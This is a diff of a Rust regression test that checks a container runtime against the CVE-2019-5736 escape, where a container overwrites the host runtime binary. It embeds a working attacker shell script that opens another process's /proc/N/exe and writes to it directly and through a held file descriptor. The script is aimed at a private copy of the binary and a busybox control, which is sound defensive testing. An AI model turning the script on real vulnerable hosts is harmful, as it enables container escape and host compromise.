@@ -8,25 +8,12 @@ use std::fs;
 use std::os::unix::fs::symlink;
 use std::time::Duration;
 
-/// CVE-2019-5736. Container B (with CAP_SYS_PTRACE, so that it can open any exe in its pid
-/// namespace) shares its pid namespace with container A. While A is created, B opens A's init
-/// /proc/N/exe (the runtime binary) read-only and tries to write to it; then A is started with
-/// the entrypoint `#!/proc/self/exe` (so A's process runs the runtime binary once more, inside
-/// the container) and exits, after which nothing executes that file any more and B writes
-/// through its fd: on a vulnerable runtime that rewrites the host binary. The test runs a private
-/// copy of the binary under test, so a vulnerable runtime damages only the copy.
-#[test]
-fn security_cve_2019_5736_runtime_exe_not_writable() {
-    let mut ctx = Ctx::new("cve20195736");
-    let binary = ctx.use_private_bin_copy();
-    let before = fs::read(&binary).unwrap();
-
-    let mut b = ctx.bundle();
-    b.writable_root();
-    let caps = ["CAP_AUDIT_WRITE", "CAP_KILL", "CAP_NET_BIND_SERVICE", "CAP_SYS_PTRACE"];
-    b.set("/process/capabilities", json!({"bounding": caps, "effective": caps, "permitted": caps}));
-    b.sh(
-        r#"
+/// The attacker of the CVE-2019-5736 tests: a container with CAP_SYS_PTRACE (so it may open
+/// any exe in its pid namespace) that owns a pid namespace the victim joins. On /tmp/go1 it opens
+/// the first /proc/N/exe that is not its own busybox, read-only, and tries to write to it
+/// directly; on /tmp/go2 (the victim has exited, so nothing executes that file any more) it
+/// reopens it for writing through /proc/self/fd/3, which is how the real exploit rewrote runc.
+const ATTACKER: &str = r#"
 while [ ! -e /tmp/go1 ]; do sleep 0.05; done
 found=
 for p in /proc/[0-9]*; do
@@ -41,7 +28,6 @@ done
 echo "${found:-none}" > /tmp/opened
 if [ -n "$found" ]; then
   (echo pwned >> "$p/exe") 2>/dev/null && echo DIRECT-WROTE >> /tmp/result
-  (echo pwned >> /proc/self/fd/3) 2>/dev/null && echo FD-WROTE-WHILE-RUNNING >> /tmp/result
 fi
 echo ready > /tmp/ready
 while [ ! -e /tmp/go2 ]; do sleep 0.05; done
@@ -51,31 +37,73 @@ if [ -n "$found" ]; then
 fi
 echo finished >> /tmp/result
 sleep 1000
-"#,
-    );
+"#;
+
+/// Runs one attack round against `victim` (which joins the attacker's pid namespace). With
+/// `victim_running`, the victim is `run -d` before the attacker looks; otherwise it is only
+/// created then, and started after the attacker opened its exe. Returns (opened, result).
+fn exe_attack(ctx: &Ctx, victim: &mut Bundle, victim_running: bool) -> (String, String) {
+    let mut b = ctx.bundle();
+    b.writable_root();
+    let caps = ["CAP_AUDIT_WRITE", "CAP_KILL", "CAP_NET_BIND_SERVICE", "CAP_SYS_PTRACE"];
+    b.set("/process/capabilities", json!({"bounding": caps, "effective": caps, "permitted": caps}));
+    b.sh(ATTACKER);
     let idb = ctx.id("attacker");
     ctx.run_detached(&mut b, &idb);
     let pidb = ctx.pid(&idb);
 
-    let mut a = ctx.bundle();
-    a.write_file("evil", "#!/proc/self/exe\n", 0o755);
-    a.args(&["/evil"]);
-    a.ns_add("pid", Some(&format!("/proc/{pidb}/ns/pid")));
+    victim.ns_add("pid", Some(&format!("/proc/{pidb}/ns/pid")));
     let ida = ctx.id("victim");
-    ctx.create(&mut a, &ida).ok();
-
+    if victim_running {
+        ctx.run_detached(victim, &ida);
+    } else {
+        ctx.create(victim, &ida).ok();
+    }
     fs::write(b.rootfs.join("tmp/go1"), "").unwrap();
     assert!(wait_file(&b.rootfs.join("tmp/ready"), Duration::from_secs(20)), "attacker did not get ready");
     let opened = read(b.rootfs.join("tmp/opened"));
-    eprintln!("attacker opened: {opened}");
-    let _ = ctx.start(&ida);
-    ctx.wait_status(&ida, "stopped", Duration::from_secs(10));
+    if !victim_running {
+        let _ = ctx.start(&ida);
+    }
+    ctx.wait_status(&ida, "stopped", Duration::from_secs(20));
     fs::write(b.rootfs.join("tmp/go2"), "").unwrap();
     let result = b.rootfs.join("tmp/result");
     assert!(wait_until(Duration::from_secs(10), || read(&result).contains("finished")), "attacker did not finish");
+    let _ = ctx.delete_force(&idb);
+    (opened.trim().to_string(), read(&result))
+}
+
+/// CVE-2019-5736. The victim container's init (the runtime binary, waiting in `created`) is
+/// opened by the attacker; the victim is then started with the entrypoint `#!/proc/self/exe`
+/// (its process runs the runtime binary once more, inside the container) and exits; then the
+/// attacker writes through its fd. The test runs a private copy of the binary under test, so a
+/// vulnerable runtime damages only the copy. A control round first proves the attack works
+/// here against a plain binary on a writable mount.
+#[test]
+fn security_cve_2019_5736_runtime_exe_not_writable() {
+    let mut ctx = Ctx::new("cve20195736");
+    let binary = ctx.use_private_bin_copy();
+    let before = fs::read(&binary).unwrap();
+
+    // Control: the victim runs its own copy of busybox (as `sleep`) from a writable rootfs.
+    let mut control = ctx.bundle();
+    control.writable_root();
+    fs::copy("/bin/busybox", control.rootfs.join("sleep")).unwrap();
+    control.args(&["/sleep", "2"]);
+    let (opened, result) = exe_attack(&ctx, &mut control, true);
+    assert!(opened.ends_with("/sleep"), "control: attacker opened {opened:?}");
+    assert!(result.contains("FD-WROTE"), "control: the attack model does not work on this host: {result:?}");
+    assert_ne!(fs::read(control.rootfs.join("sleep")).unwrap(), fs::read("/bin/busybox").unwrap());
+
+    // The real round against the runtime binary.
+    let mut a = ctx.bundle();
+    a.write_file("evil", "#!/proc/self/exe\n", 0o755);
+    a.args(&["/evil"]);
+    let (opened, result) = exe_attack(&ctx, &mut a, false);
+    eprintln!("attacker opened: {opened}");
     let after = fs::read(&binary).unwrap();
     assert!(after == before, "the runtime binary was modified from inside a container (opened: {opened})");
-    assert_eq!(read(&result), "finished\n", "writes to the runtime's exe succeeded (opened: {opened})");
+    assert_eq!(result, "finished\n", "writes to the runtime's exe succeeded (opened: {opened})");
 }
 
 /// CVE-2024-21626: process.cwd = /proc/self/fd/N must never leave the process with a working
